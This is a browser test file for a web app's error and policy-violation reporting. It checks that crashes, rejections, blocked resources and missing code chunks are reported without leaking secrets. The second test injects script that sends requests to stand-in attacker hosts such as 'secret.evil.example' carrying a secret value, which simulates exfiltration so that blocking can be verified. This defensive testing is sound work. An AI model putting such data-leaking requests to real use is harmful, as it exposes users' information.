import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from 'playwright-core';
import * as assert from 'uvu/assert';
import { buildElsewhere } from '../build/built-elsewhere';
import { until } from '../sandbox/until';
import { REPORTS, takeReport } from '../serve/reports';
import { staticHost } from '../serve/static-host';
import { type Stage, suiteAgainst } from './chromium';
import { update } from './deployment-steps';
import { fillIn, hydrated, keepOnce } from './player';

const HOST = '127.0.0.75';
const PORT = 8002;

const received: string[] = [];
/** What the host adds to each page. Then each request for the service worker gets that of another build. */
let added = '';
let builds = 0;

const { test, run } = suiteAgainst('reports of what breaks', async () => {
  const REPORT_URL = `http://${HOST}:${PORT}${REPORTS}`;
  const { dist } = await buildElsewhere('reports', { PATH: process.env.PATH, REPORT_URL });
  const site = staticHost(dist, (html) => html + added);
  return {
    host: HOST,
    port: PORT,
    async serve(req, res) {
      if (req.url === REPORTS) return takeReport(req, res, (line) => received.push(line));
      if (req.url !== '/service-worker.js' || !added) return site(req, res);
      const worker = await readFile(path.join(dist, req.url), 'utf8');
      const other = worker.replaceAll(/\b[\da-f]{16}\b/g, String(++builds).padStart(16, '0'));
      res.writeHead(200, { 'content-type': 'text/javascript' }).end(other);
    },
  };
});

const SECRETS = ['secret', '7001', 'asha', 'refId'];
const MESSAGE = 'a secret of asha (7001)';

async function visit(
  { browser, sandbox }: Stage,
  address: string,
  scene: (page: Page) => Promise<void>,
  serviceWorkers: 'allow' | 'block' = 'block',
) {
  received.length = 0;
  const context = await browser.newContext({ baseURL: sandbox.origin, serviceWorkers });
  const page = await context.newPage();
  page.setDefaultTimeout(30_000);
  try {
    await keepOnce(page, { authToken: sandbox.signIn('asha') });
    await page.goto(`${address}?refId=secret`);
    await page.waitForLoadState('networkidle');
    await hydrated(page);
    await scene(page);
    // A page that is just loading anew cancels the first.
    await page.goto('about:blank').catch(() => page.goto('about:blank'));
  } finally {
    await context.close();
  }
  for (const secret of SECRETS) assert.not.match(received.join('\n'), secret);
}

async function arrives(trouble: string, expected: object): Promise<string> {
  const reports = () => received.map((line) => JSON.parse(line)).filter((report) => report.trouble === trouble);
  await until(() => reports().length > 0);
  const [{ at = [], build, ...facts }] = reports();
  assert.equal(facts, { trouble, ...expected });
  assert.match(build, /^[A-Z2-7]{8}$/);
  return at.join(' ');
}

const POSITIONS = /^([\w-]+-[A-Z2-7]{8}\.js:\d+:\d+ ?)+$/;

test('a crash is reported once while its screen is shown', (stage) =>
  visit(stage, '/wallet', async (page) => {
    await page.evaluate((message) => {
      HTMLDialogElement.prototype.showModal = () => {
        throw new RangeError(message);
      };
    }, MESSAGE);
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.getByText(MESSAGE).waitFor();
    assert.match(await arrives('crash', { error: 'RangeError', route: 'wallet' }), POSITIONS);
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByText(MESSAGE).waitFor();
    assert.is(received.length, 1);
  }));

/** Throws what our own code could throw, and before it what an extension could: nothing of that is reported. */
function throwFromOwnCode({ message, isRejection }: { message: string; isRejection: boolean }): void {
  const fail = (at: string) => {
    const error = new TypeError(message);
    error.stack = `TypeError: ${message}\n    at run (${at}:1:2)`;
    if (isRejection) void Promise.reject(error);
    else setTimeout(() => Promise.reject(error).catch((thrown) => reportError(thrown)));
  };
  const start = () => {
    for (let count = 0; count < 12; count++) fail(`chrome-extension://abc/content-${count}.js`);
    fail(String(document.querySelector<HTMLScriptElement>('script[type=module]')?.src));
  };
  if (document.readyState === 'loading') addEventListener('DOMContentLoaded', start);
  else setTimeout(start);
}

test('what the policy blocks, a rejection, an error before the code for it has loaded, and missing code are reported', (stage) =>
  visit(stage, '/login', async (page) => {
    await page.evaluate(() => {
      setTimeout(() => fetch('https://another.evil.example/').catch(() => {}));
      // Our own code adds the links of style sheets.
      Object.defineProperty(HTMLLinkElement.prototype, 'href', {
        set: function (this: HTMLLinkElement) {
          this.setAttribute('href', 'https://secret.evil.example/?t=7001');
        },
      });
    });
    await page.getByLabel('Username or phone number').fill('a');
    const directive = 'style-src-elem';
    assert.match(await arrives('violation', { directive, blocked: 'https', route: 'login' }), POSITIONS);
    assert.not.match(received.join(), 'connect-src');

    await page.evaluate(throwFromOwnCode, { message: MESSAGE, isRejection: true });
    await arrives('rejection', { error: 'TypeError', route: 'login' });
    await page.addInitScript(throwFromOwnCode, { message: MESSAGE, isRejection: false });
    await page.reload();
    await arrives('crash', { error: 'TypeError', route: 'login' });

    const core = await page.locator('script[type=module]').first().getAttribute('src');
    const gone: string[] = [];
    await page.route('**/assets/*.js', (route) => {
      const address = new URL(route.request().url()).pathname;
      if (address === core) return route.continue();
      gone.push(address.replace('/assets/', ''));
      return route.fulfill({ status: 404, body: '' });
    });
    await fillIn(page);
    await page.getByRole('button', { name: 'Sign in' }).click();
    const named = await arrives('chunk', { error: 'TypeError', route: 'dashboard' });
    assert.ok(
      gone.some((file) => named.split(' ').includes(file)),
      `${named} is among ${gone}`,
    );
    await page.getByText('This part of the app couldn’t be loaded.').waitFor();
  }));

test('a new build that can’t be kept, because a host changes the pages, is reported once', (stage) => {
  const scene = async (page: Page) => {
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
    added = '<!-- added on the way -->';
    assert.is(await update(page), 'redundant');
    await arrives('worker', { route: 'login' });
    await page.getByRole('link', { name: 'Forgot password?' }).click();
    await page.waitForURL('**/forgot-password?*');
    assert.is(await update(page), 'redundant');
    await page.waitForLoadState('networkidle');
    assert.is(received.length, 1);
  };
  return visit(stage, '/login', scene, 'allow').finally(() => {
    added = '';
  });
});

run();
